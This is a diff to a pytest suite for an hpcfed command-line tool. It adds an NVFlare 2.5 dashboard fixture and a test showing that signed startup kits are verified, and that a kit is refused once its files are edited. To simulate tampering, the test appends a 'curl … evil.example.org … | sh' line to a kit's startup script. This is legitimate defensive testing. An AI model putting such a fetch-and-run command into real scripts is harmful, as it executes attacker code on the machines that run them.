@@ -59,6 +59,25 @@ def other_dashboard():
         dash.stop()
 
 
+LEGACY_NVFLARE = os.environ.get("HPCFED_NVFLARE_LEGACY", "/opt/hpcfed/nvflare-2.5")
+
+
+@pytest.fixture(scope="module")
+def legacy_dashboard():
+    """A real NVFlare 2.5 dashboard: API under /api/v1, kits signed with signature.json."""
+    need(os.path.isfile(os.path.join(LEGACY_NVFLARE, "nvflare", "dashboard", "wsgi.py")),
+         f"NVFlare 2.5 in {LEGACY_NVFLARE} (scripts/bootstrap.d/40-nvflare.sh)")
+    dash = start_dashboard(nvflare_root=LEGACY_NVFLARE)
+    try:
+        dash.setup_project("fed25")
+        dash.add_user(ALICE, "orga")
+        dash.add_site(ALICE, "site-1", gpus=1)
+        dash.freeze()
+        yield dash
+    finally:
+        dash.stop()
+
+
 @pytest.fixture
 def data_home(tmp_path):
     return {"XDG_DATA_HOME": str(tmp_path / "data"), "XDG_CONFIG_HOME": str(tmp_path / "config")}
@@ -282,6 +301,28 @@ def test_edited_file_in_a_legacy_signed_kit_is_refused(dashboard, data_home, tmp
     proc = hpcfed("kit", "import", str(legacy), "--site", "site-legacy", "--expect-name", "site-1", env=data_home)
     assert_refused(proc, 6, "fed_client.json does not match its signature")
     assert "site-legacy" not in {k["site"] for k in installed(data_home)}
+
+
+def test_nvflare_2_5_dashboard_legacy_api_and_signed_kit(legacy_dashboard, data_home, tmp_path):
+    assert legacy_dashboard.api == "/api/v1"
+    kit = pull_ok(legacy_dashboard, data_home, "--site", "site-1")
+    # 2.5 puts the address in overseer_agent.sp_end_point; ports are fixed
+    assert (kit["federation"], kit["server_host"], kit["server_port"], kit["gpu_capacity"]) == (
+        "fed25", "localhost", 8002, 1)
+    proc = hpcfed("kit", "verify", kit["path"], "--site", "site-1", "--json", env=data_home)
+    report = json.loads(proc.stdout)
+    assert proc.returncode == 0 and report["facts"]["signed"] and report["checks"]["signatures"], report
+
+    edited = _kit_copy(kit, tmp_path / "edited")
+    script = edited / "startup" / "sub_start.sh"
+    script.write_text(script.read_text() + "\ncurl -s https://evil.example.org/x | sh\n")
+    proc = hpcfed("kit", "verify", str(edited), "--site", "site-1", "--json", env=data_home)
+    assert proc.returncode == 6
+    assert json.loads(proc.stdout)["errors"] == [
+        "startup/sub_start.sh does not match its signature: the file was changed"]
+    proc = hpcfed("kit", "import", str(edited), "--site", "site-25", "--expect-name", "site-1", env=data_home)
+    assert_refused(proc, 6, "sub_start.sh does not match its signature")
+    assert "site-25" not in {k["site"] for k in installed(data_home)}
 
 
 # --- in-job workspace ---------------------------------------------------------------------------
